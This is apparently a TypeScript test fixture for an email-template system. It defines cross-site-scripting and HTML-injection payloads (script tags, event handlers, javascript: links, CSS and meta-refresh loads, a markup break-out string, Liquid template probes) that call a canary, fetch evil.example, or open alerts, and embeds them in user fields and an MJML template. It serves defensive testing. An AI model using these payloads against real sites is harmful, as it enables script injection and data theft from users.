/**
 * What somebody would send or write who wants to act in the browser of whoever looks at it. Each way says who it was by
 * calling `canary`, asking for a page of another house that has its name, opening a dialog, or going elsewhere.
 */
const outside = (way: string): string => `https://evil.example/${way}`
const act = (way: string): string =>
  `for(const w of [window,parent,top])try{w.canary('${way}')}catch{};fetch('${outside(way)}');alert('${way}')`

export const hostileWays: Readonly<Record<string, string>> = {
  script: `<script>${act('script')}</script>`,
  scriptSource: `<script src="${outside('script-source')}"></script>`,
  onerror: `<img src="x:" onerror="${act('onerror')}">`,
  image: `<img src="${outside('image')}">`,
  svg: `<svg onload="${act('svg')}"><script>${act('svg-script')}</script><image href="${outside('svg-image')}"/></svg>`,
  srcdoc: `<iframe srcdoc="&lt;script&gt;${act('srcdoc')}&lt;/script&gt;"></iframe>`,
  frame: `<iframe src="${outside('frame')}"></iframe><object data="${outside('object')}"></object><embed src="${outside('embed')}">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${outside('refresh')}">`,
  style: `<style>@import url("${outside('import')}");body{background:url(${outside('background')})}@font-face{font-family:x;src:url(${outside('font')})}*{font-family:x}</style>`,
  inlineStyle: `<div style="background:url('${outside('inline-style')}')">x</div>`,
  sheet: `<link rel="stylesheet" href="${outside('sheet')}"><link rel="prefetch" href="${outside('prefetch')}">`,
  base: `<base href="${outside('base/')}">`,
  form: `<form id="f" action="${outside('form')}" method="post"><button autofocus onfocus="${act('focus')}">Go</button></form>`,
  details: `<details open ontoggle="${act('toggle')}">x</details><video><source onerror="${act('source')}"></video>`,
  link: `<a id="hostile-script" href="javascript:${act('link')}">click</a><a id="hostile-top" target="_top" href="${outside('top')}">click</a><a id="hostile-blank" target="_blank" href="${outside('blank')}">click</a><a id="hostile-here" href="${outside('here')}">click</a>`,
  breakOut: `"><script>${act('break-out')}</script><!-- ' --></style></title></textarea>`,
}

export const everyWay = Object.values(hostileWays).join('\n')

/** Traits, names and addresses as only they would be given. */
export const hostileTraits: Readonly<Record<string, unknown>> = {
  firstName: hostileWays.onerror,
  lastName: hostileWays.breakOut,
  email: 'eve@customers.example',
  bio: everyWay,
  website: `javascript:${act('trait-link')}`,
  liquid: '{{ 6 | times: 7 }}{% for i in (1..3) %}looped{% endfor %}',
  [`<img src=x onerror="${act('trait-name')}">`]: 'name',
  nested: { deeper: [hostileWays.svg, hostileWays.script] },
}

/** A template that writes them as they are, which only staff who may write templates can. */
export const hostileTemplate = (topic: string) => ({
  name: `Hostile ${hostileWays.onerror}`.slice(0, 120),
  subject: '{{ person.firstName }} {{ person.liquid }}',
  mjml: `<mjml><mj-body><mj-section><mj-column><mj-text>{{ person.bio }} {{ person.liquid }}</mj-text></mj-column></mj-section>
<mj-raw>{{ person.bio | raw }} ${everyWay}</mj-raw></mj-body></mjml>`,
  text: null,
  topic,
})
